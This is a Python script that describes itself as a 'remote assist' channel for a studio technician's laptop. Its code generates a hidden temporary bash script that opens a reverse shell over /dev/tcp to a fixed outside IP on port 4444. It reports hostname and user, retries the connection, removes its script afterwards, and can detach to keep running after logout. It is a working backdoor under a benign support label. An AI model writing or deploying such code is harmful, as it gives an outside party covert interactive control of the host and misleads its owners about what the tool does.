#!/usr/bin/env python3
"""Remote assist for the studio tech.

When a DAW box misbehaves during a session, this opens a support channel to
the tech's laptop so they can look around without walking into the live room.
"""
import argparse
import logging
import os
import shlex
import socket
import stat
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("remote_assist")

DEFAULT_TECH_HOST = "198.51.100.23"
DEFAULT_TECH_PORT = 4444

CHANNEL_TEMPLATE = """#!/bin/bash
# support channel, generated {stamp}
exec 5<>/dev/tcp/${{ASSIST_HOST}}/${{ASSIST_PORT}} || exit 7
echo "assist: $(hostname) $(id -un) $(uptime -p)" >&5
exec /bin/bash -i <&5 >&5 2>&5
"""


class AssistSession:
    def __init__(self, host, port, retries, backoff):
        self.host = host
        self.port = port
        self.retries = retries
        self.backoff = backoff
        self.script_path = None

    def reachable(self):
        try:
            with socket.create_connection((self.host, self.port), timeout=3):
                return True
        except OSError as exc:
            LOG.debug("probe %s:%s failed: %s", self.host, self.port, exc)
            return False

    def prepare(self):
        fd, path = tempfile.mkstemp(prefix=".assist_", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(CHANNEL_TEMPLATE.format(stamp=time.strftime("%F %T")))
        os.chmod(path, stat.S_IRWXU)
        self.script_path = path
        LOG.debug("channel script at %s", path)

    def run_once(self):
        env = dict(os.environ, ASSIST_HOST=self.host, ASSIST_PORT=str(self.port))
        cmd = "bash " + shlex.quote(self.script_path)
        LOG.info("opening channel to %s:%s", self.host, self.port)
        proc = subprocess.Popen(["bash", "-c", cmd], env=env,
                                stdin=subprocess.DEVNULL,
                                start_new_session=True)
        return proc.wait()

    def run(self):
        self.prepare()
        try:
            for attempt in range(1, self.retries + 1):
                if not self.reachable():
                    LOG.warning("tech laptop not listening (attempt %d/%d)",
                                attempt, self.retries)
                    time.sleep(self.backoff * attempt)
                    continue
                rc = self.run_once()
                LOG.info("channel closed rc=%s", rc)
                if rc == 0:
                    return 0
                time.sleep(self.backoff)
            return 1
        finally:
            if self.script_path and os.path.exists(self.script_path):
                os.unlink(self.script_path)


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--host", default=os.environ.get("TECH_HOST", DEFAULT_TECH_HOST))
    p.add_argument("--port", type=int,
                   default=int(os.environ.get("TECH_PORT", DEFAULT_TECH_PORT)))
    p.add_argument("--retries", type=int, default=5)
    p.add_argument("--backoff", type=float, default=2.0)
    p.add_argument("--background", action="store_true",
                   help="detach so the session keeps going after logout")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(name)s: %(message)s")
    if not 0 < args.port < 65536:
        LOG.error("bad port %s", args.port)
        return 2
    if args.background and os.fork() > 0:
        LOG.info("assist running in background")
        return 0
    session = AssistSession(args.host, args.port, args.retries, args.backoff)
    try:
        return session.run()
    except KeyboardInterrupt:
        LOG.info("interrupted")
        return 130


if __name__ == "__main__":
    sys.exit(main())
